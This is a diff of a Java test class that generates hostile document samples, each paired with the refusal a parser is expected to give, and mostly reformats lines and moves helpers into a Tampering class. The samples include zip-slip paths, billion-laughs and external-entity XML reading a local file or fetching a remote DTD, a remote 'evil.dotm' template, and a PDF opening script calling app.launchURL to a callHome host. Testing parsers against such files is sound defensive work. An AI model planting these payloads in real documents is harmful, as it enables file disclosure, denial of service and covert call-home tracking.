@@ -9,7 +9,6 @@ import java.util.Arrays;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-import java.util.function.UnaryOperator;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 
@@ -108,91 +107,136 @@ final class HostileFiles {
         add(
                 "zip-slip",
                 "a.zip",
-                PlainForms.zip("../../slipped.txt", text, "/tmp/slipped.txt", text, "..\\..\\slipped.txt", text, "C:\\slipped.txt", text),
+                PlainForms.zip(
+                        "../../slipped.txt",
+                        text,
+                        "/tmp/slipped.txt",
+                        text,
+                        "..\\..\\slipped.txt",
+                        text,
+                        "C:\\slipped.txt",
+                        text),
                 Refusal.QUESTION);
-        add("zip-truncated", "a.zip", half(PlainForms.zip("form.docx", form())), Refusal.DAMAGED);
+        add("zip-truncated", "a.zip", Tampering.half(PlainForms.zip("form.docx", form())), Refusal.DAMAGED);
     }
 
     private void markup() throws IOException {
         var laughs = new StringBuilder("<!DOCTYPE l [<!ENTITY l0 \"ha\">");
         for (var i = 1; i < 10; i++) {
-            laughs.append("<!ENTITY l%d \"%s\">".formatted(i, "&l%d;".formatted(i - 1).repeat(10)));
+            laughs.append(
+                    "<!ENTITY l%d \"%s\">".formatted(i, "&l%d;".formatted(i - 1).repeat(10)));
         }
-        add("billion-laughs", "a.docx", withDoctype("word/document.xml", laughs + "]>", "&l9;", form()), Refusal.DAMAGED);
+        add(
+                "billion-laughs",
+                "a.docx",
+                Tampering.withDoctype("word/document.xml", laughs + "]>", "&l9;", form()),
+                Refusal.DAMAGED);
         var book = SheetForms.xlsx().form("Sheet1", answer(), 0).bytes();
-        add("billion-laughs-sheet", "a.xlsx", withDoctype("xl/sharedStrings.xml", laughs + "]>", "&l9;", book), Refusal.DAMAGED);
+        add(
+                "billion-laughs-sheet",
+                "a.xlsx",
+                Tampering.withDoctype("xl/sharedStrings.xml", laughs + "]>", "&l9;", book),
+                Refusal.DAMAGED);
         var canary = folder.resolve("canary.txt").toUri();
-        add("entity-of-a-file", "a.docx", withDoctype("word/document.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + canary + "\">]>", "&x;", form()), Refusal.DAMAGED);
-        add("entity-of-a-file-sheet", "a.xlsx", withDoctype("xl/sharedStrings.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + canary + "\">]>", "&x;", book), Refusal.DAMAGED);
-        add("entity-of-the-net", "a.docx", withDoctype("word/document.xml", "<!DOCTYPE d SYSTEM \"" + callHome + "a.dtd\">", "", form()), Refusal.DAMAGED);
-        add("nested-tables-2000", "a.docx", nestedTables(), Refusal.TOO_LARGE);
-    }
-
-    /// Puts a document type before the root element and a reference into the first text.
-    private static byte[] withDoctype(String part, String doctype, String reference, byte[] file) {
-        return changed(file, part, xml -> xml.replaceFirst("\\?>", "?>" + java.util.regex.Matcher.quoteReplacement(doctype))
-                .replaceFirst("(<w:t xml:space=\"preserve\">|<t>|<t xml:space=\"preserve\">)", "$1" + reference));
-    }
-
-    static byte[] changed(byte[] file, String part, UnaryOperator<String> change) {
-        var parts = Zips.read(file);
-        parts.computeIfPresent(
-                part,
-                (_, content) -> change.apply(new String(content, StandardCharsets.UTF_8))
-                        .getBytes(StandardCharsets.UTF_8));
-        return Zips.of(parts);
-    }
-
-    private static byte[] nestedTables() {
-        var open = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>";
-        var close = "<w:p/></w:tc></w:tr></w:tbl>";
-        var docx = answer().docx();
-        return docx.add(open.repeat(2_000), docx.paragraph("left", "14", "1.234"), close.repeat(2_000), "<w:p/>")
-                .bytes();
+        add(
+                "entity-of-a-file",
+                "a.docx",
+                Tampering.withDoctype(
+                        "word/document.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + canary + "\">]>", "&x;", form()),
+                Refusal.DAMAGED);
+        add(
+                "entity-of-a-file-sheet",
+                "a.xlsx",
+                Tampering.withDoctype(
+                        "xl/sharedStrings.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"" + canary + "\">]>", "&x;", book),
+                Refusal.DAMAGED);
+        add(
+                "entity-of-the-net",
+                "a.docx",
+                Tampering.withDoctype("word/document.xml", "<!DOCTYPE d SYSTEM \"" + callHome + "a.dtd\">", "", form()),
+                Refusal.DAMAGED);
+        add("nested-tables-2000", "a.docx", Tampering.nestedTables(), Refusal.TOO_LARGE);
     }
 
     private void sheets() throws IOException {
         var book = SheetForms.xlsx().form("Sheet1", answer(), 0).bytes();
-        add("sheet-that-claims-all-cells", "a.xlsx", changed(book, "xl/worksheets/sheet1.xml", xml -> xml.replaceFirst("<dimension ref=\"[^\"]*\"", "<dimension ref=\"A1:XFD1048576\"")), Refusal.NONE);
-        add("sheet-with-a-cell-far-away", "a.xlsx", SheetForms.xlsx().form("Sheet1", answer(), 0).text(1_048_575, 16_383, ".").bytes(), Refusal.NONE);
+        add(
+                "sheet-that-claims-all-cells",
+                "a.xlsx",
+                Tampering.changed(
+                        book,
+                        "xl/worksheets/sheet1.xml",
+                        xml -> xml.replaceFirst("<dimension ref=\"[^\"]*\"", "<dimension ref=\"A1:XFD1048576\"")),
+                Refusal.NONE);
+        add(
+                "sheet-with-a-cell-far-away",
+                "a.xlsx",
+                SheetForms.xlsx()
+                        .form("Sheet1", answer(), 0)
+                        .text(1_048_575, 16_383, ".")
+                        .bytes(),
+                Refusal.NONE);
         var merged = "<mergeCells count=\"1\"><mergeCell ref=\"F1:XFD1048576\"/></mergeCells>";
-        add("sheet-merged-to-its-end", "a.xlsx", changed(book, "xl/worksheets/sheet1.xml", xml -> xml.replaceFirst("<mergeCells.*</mergeCells>", merged)), Refusal.QUESTION);
+        add(
+                "sheet-merged-to-its-end",
+                "a.xlsx",
+                Tampering.changed(
+                        book,
+                        "xl/worksheets/sheet1.xml",
+                        xml -> xml.replaceFirst("<mergeCells.*</mergeCells>", merged)),
+                Refusal.QUESTION);
     }
 
     private void broken() throws IOException {
         var png = new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13, 'I', 'H', 'D', 'R', 0, 0, 0, 1};
         add("picture-named-docx", "a.docx", png, Refusal.NOT_A_DOCUMENT);
-        add("program-named-pdf", "a.pdf", PlainForms.utf8("MZ\u0000\u0001This program cannot be run in DOS mode."), Refusal.NOT_A_DOCUMENT);
+        add(
+                "program-named-pdf",
+                "a.pdf",
+                PlainForms.utf8("MZ\u0000\u0001This program cannot be run in DOS mode."),
+                Refusal.NOT_A_DOCUMENT);
         for (var name : List.of("a.docx", "a.pdf", "a.xlsx", "a.zip", "a.txt")) {
             add("empty-" + name.substring(2), name, new byte[0], Refusal.EMPTY);
         }
-        add("truncated-docx", "a.docx", half(form()), Refusal.DAMAGED);
-        add("truncated-xlsx", "a.xlsx", half(SheetForms.xlsx().form("Sheet1", answer(), 0).bytes()), Refusal.DAMAGED);
+        add("truncated-docx", "a.docx", Tampering.half(form()), Refusal.DAMAGED);
+        add(
+                "truncated-xlsx",
+                "a.xlsx",
+                Tampering.half(SheetForms.xlsx().form("Sheet1", answer(), 0).bytes()),
+                Refusal.DAMAGED);
         var xls = SheetForms.xls().form("Sheet1", answer(), 0).bytes();
-        add("truncated-xls", "a.xls", half(xls), Refusal.DAMAGED);
-        add("truncated-doc", "a.doc", half(golden("054-form-alone.doc")), Refusal.DAMAGED);
-        add("truncated-pdf", "a.pdf", half(golden("050-form-alone.pdf")), Refusal.QUESTION);
+        add("truncated-xls", "a.xls", Tampering.half(xls), Refusal.DAMAGED);
+        add("truncated-doc", "a.doc", Tampering.half(golden("054-form-alone.doc")), Refusal.DAMAGED);
+        add("truncated-pdf", "a.pdf", Tampering.half(golden("050-form-alone.pdf")), Refusal.QUESTION);
         var looping = xls.clone();
         var table = 512 + 512 * (looping[76] & 0xff);
         Arrays.fill(looping, table, table + 16, (byte) 0);
         add("old-workbook-looping-sectors", "a.xls", looping, Refusal.DAMAGED);
-        add("docx-without-its-document", "a.docx", PlainForms.zip("[Content_Types].xml", PlainForms.utf8("<Types/>")), Refusal.DAMAGED);
+        add(
+                "docx-without-its-document",
+                "a.docx",
+                PlainForms.zip("[Content_Types].xml", PlainForms.utf8("<Types/>")),
+                Refusal.DAMAGED);
     }
 
     private static byte[] golden(String name) throws IOException {
         return Files.readAllBytes(GoldenFiles.FOLDER.resolve(name));
     }
 
-    private static byte[] half(byte[] content) {
-        return Arrays.copyOf(content, content.length / 2);
-    }
-
     private void locked() throws IOException {
         add("locked-docx", "a.docx", LockedFiles.office(form()), Refusal.ENCRYPTED);
-        add("locked-xlsx", "a.xlsx", LockedFiles.office(SheetForms.xlsx().form("Sheet1", answer(), 0).bytes()), Refusal.ENCRYPTED);
+        add(
+                "locked-xlsx",
+                "a.xlsx",
+                LockedFiles.office(SheetForms.xlsx().form("Sheet1", answer(), 0).bytes()),
+                Refusal.ENCRYPTED);
         add("locked-xls", "a.xls", LockedFiles.oldWorkbook(), Refusal.ENCRYPTED);
         add("locked-pdf", "a.pdf", LockedFiles.pdf(golden("050-form-alone.pdf"), "secret"), Refusal.ENCRYPTED);
-        add("pdf-locked-against-copying-only", "a.pdf", LockedFiles.pdf(golden("050-form-alone.pdf"), ""), Refusal.NONE);
+        add(
+                "pdf-locked-against-copying-only",
+                "a.pdf",
+                LockedFiles.pdf(golden("050-form-alone.pdf"), ""),
+                Refusal.NONE);
     }
 
     private void names() throws IOException {
@@ -218,50 +262,109 @@ final class HostileFiles {
     }
 
     private void value(String kind, String text) throws IOException {
-        add("value-" + kind, "a.docx", WordLetters.alone(answer().writes(3, text)).bytes(), Refusal.QUESTION);
-        add("value-" + kind + "-csv", "a.csv", PlainForms.utf8(PlainForms.csv(answer().writes(3, text), ";")), Refusal.QUESTION);
+        add(
+                "value-" + kind,
+                "a.docx",
+                WordLetters.alone(answer().writes(3, text)).bytes(),
+                Refusal.QUESTION);
+        add(
+                "value-" + kind + "-csv",
+                "a.csv",
+                PlainForms.utf8(PlainForms.csv(answer().writes(3, text), ";")),
+                Refusal.QUESTION);
     }
 
     private void active() throws IOException {
         var office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
-        var template = "<Relationship Id=\"rId9\" Type=\"" + office + "attachedTemplate\" Target=\"" + callHome + "evil.dotm\" TargetMode=\"External\"/>";
-        add("template-of-the-net", "a.docx", related(template), Refusal.NONE);
-        var picture = "<Relationship Id=\"rId9\" Type=\"" + office + "image\" Target=\"" + callHome + "pixel.png\" TargetMode=\"External\"/>";
-        add("picture-of-the-net", "a.docx", related(picture), Refusal.NONE);
+        var template = "<Relationship Id=\"rId9\" Type=\"" + office + "attachedTemplate\" Target=\"" + callHome
+                + "evil.dotm\" TargetMode=\"External\"/>";
+        add("template-of-the-net", "a.docx", Tampering.related(template), Refusal.NONE);
+        var picture = "<Relationship Id=\"rId9\" Type=\"" + office + "image\" Target=\"" + callHome
+                + "pixel.png\" TargetMode=\"External\"/>";
+        add("picture-of-the-net", "a.docx", Tampering.related(picture), Refusal.NONE);
         var object = Zips.read(form());
-        object.put("word/embeddings/oleObject1.bin", SheetForms.xls().form("Sheet1", answer(), 0).bytes());
+        object.put(
+                "word/embeddings/oleObject1.bin",
+                SheetForms.xls().form("Sheet1", answer(), 0).bytes());
         add("embedded-object", "a.docx", Zips.of(object), Refusal.NONE);
-        var macros = Zips.read(changed(form(), "[Content_Types].xml", xml -> xml.replace("vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "vnd.ms-word.document.macroEnabled.main+xml")
-                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")));
+        var macros = Zips.read(
+                Tampering.changed(
+                        form(),
+                        "[Content_Types].xml",
+                        xml -> xml.replace(
+                                        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                                        "vnd.ms-word.document.macroEnabled.main+xml")
+                                .replace(
+                                        "</Types>",
+                                        "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")));
         macros.put("word/vbaProject.bin", new byte[4096]);
         add("macros-named-docx", "a.docx", Zips.of(macros), Refusal.NONE);
-    }
-
-    private static byte[] related(String relationship) {
-        return changed(form(), "word/_rels/document.xml.rels", xml -> xml.replace("</Relationships>", relationship + "</Relationships>"));
     }
 
     private void huge() throws IOException {
         var docx = answer().docx();
         var parts = Zips.read(form());
-        var head = new String(parts.remove("word/document.xml"), StandardCharsets.UTF_8).replaceFirst("<w:body>.*", "<w:body>");
+        var head = new String(parts.remove("word/document.xml"), StandardCharsets.UTF_8)
+                .replaceFirst("<w:body>.*", "<w:body>");
         var words = "chiến dịch ".repeat(9_000);
-        add("paragraph-of-20-megabytes", "a.docx", changed(form(), "word/document.xml", _ -> head + "<w:p><w:r><w:t>" + words.repeat(180) + "</w:t></w:r></w:p></w:body></w:document>"), Refusal.TOO_LARGE);
-        add("paragraphs-100000", "a.docx", changed(form(), "word/document.xml", _ -> head + docx.paragraph("left", "14", "a").repeat(100_000) + "</w:body></w:document>"), Refusal.TOO_LARGE);
-        BigFiles.zip(place("document-of-300-megabytes", "a.docx", Refusal.TOO_LARGE), parts, "word/document.xml", " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII), 300);
+        add(
+                "paragraph-of-20-megabytes",
+                "a.docx",
+                Tampering.changed(
+                        form(),
+                        "word/document.xml",
+                        _ -> head + "<w:p><w:r><w:t>" + words.repeat(180) + "</w:t></w:r></w:p></w:body></w:document>"),
+                Refusal.TOO_LARGE);
+        add(
+                "paragraphs-100000",
+                "a.docx",
+                Tampering.changed(
+                        form(),
+                        "word/document.xml",
+                        _ -> head + docx.paragraph("left", "14", "a").repeat(100_000) + "</w:body></w:document>"),
+                Refusal.TOO_LARGE);
+        BigFiles.zip(
+                place("document-of-300-megabytes", "a.docx", Refusal.TOO_LARGE),
+                parts,
+                "word/document.xml",
+                " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII),
+                300);
         add("line-of-20-megabytes", "a.txt", PlainForms.utf8(words.repeat(180)), Refusal.TOO_LARGE);
         add("csv-of-300000-rows", "a.csv", PlainForms.utf8("1;a;2;\n".repeat(300_000)), Refusal.TOO_LARGE);
         BigFiles.plain(place("text-of-80-megabytes", "a.txt", Refusal.TOO_LARGE), words, 800);
         var depth = 1_000_000;
-        add("rtf-groups-in-groups", "a.rtf", PlainForms.utf8("{\\rtf1 " + "{".repeat(depth) + "1" + "}".repeat(depth) + "}"), Refusal.TOO_LARGE);
+        add(
+                "rtf-groups-in-groups",
+                "a.rtf",
+                PlainForms.utf8("{\\rtf1 " + "{".repeat(depth) + "1" + "}".repeat(depth) + "}"),
+                Refusal.TOO_LARGE);
         var elements = "<w:ins>".repeat(100_000) + "</w:ins>".repeat(100_000);
-        add("elements-in-elements", "a.docx", changed(form(), "word/document.xml", _ -> head + "<w:p>" + elements + "</w:p></w:body></w:document>"), Refusal.TOO_LARGE);
+        add(
+                "elements-in-elements",
+                "a.docx",
+                Tampering.changed(
+                        form(), "word/document.xml", _ -> head + "<w:p>" + elements + "</w:p></w:body></w:document>"),
+                Refusal.TOO_LARGE);
     }
 
     private void pages() throws IOException {
-        add("pdf-page-tree-loop", "a.pdf", LockedFiles.rawPdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>", ""), Refusal.DAMAGED);
-        add("pdf-claims-2000000000-pages", "a.pdf", LockedFiles.rawPdf("<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", ""), Refusal.QUESTION);
-        add("pdf-script-on-opening", "a.pdf", LockedFiles.rawPdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", "/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + callHome + "'\\))>>"), Refusal.QUESTION);
+        add(
+                "pdf-page-tree-loop",
+                "a.pdf",
+                LockedFiles.rawPdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>", ""),
+                Refusal.DAMAGED);
+        add(
+                "pdf-claims-2000000000-pages",
+                "a.pdf",
+                LockedFiles.rawPdf("<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", ""),
+                Refusal.QUESTION);
+        add(
+                "pdf-script-on-opening",
+                "a.pdf",
+                LockedFiles.rawPdf(
+                        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+                        "/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + callHome + "'\\))>>"),
+                Refusal.QUESTION);
         add("pdf-of-400-pages", "a.pdf", LockedFiles.pages(400), Refusal.TOO_LARGE);
     }
 
@@ -269,9 +372,17 @@ final class HostileFiles {
         var mail = PlainForms.mail("a@example.vn", "x", "x", Map.of("a.txt", PlainForms.utf8("x")));
         for (var i = 0; i < 100; i++) {
             var text = new String(mail, StandardCharsets.US_ASCII);
-            mail = PlainForms.utf8("From: a@example.vn\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b" + i + "\r\n\r\n--b" + i + "\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"a.eml\"\r\n\r\n" + text + "\r\n--b" + i + "--\r\n");
+            mail = PlainForms.utf8(
+                    "From: a@example.vn\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b" + i
+                            + "\r\n\r\n--b" + i
+                            + "\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"a.eml\"\r\n\r\n"
+                            + text + "\r\n--b" + i + "--\r\n");
         }
         add("letter-in-letter-100-times", "a.eml", mail, Refusal.TOO_LARGE);
-        add("letter-without-end", "a.eml", PlainForms.utf8("Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\n".repeat(100_000)), Refusal.TOO_LARGE);
+        add(
+                "letter-without-end",
+                "a.eml",
+                PlainForms.utf8("Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\n".repeat(100_000)),
+                Refusal.TOO_LARGE);
     }
 }
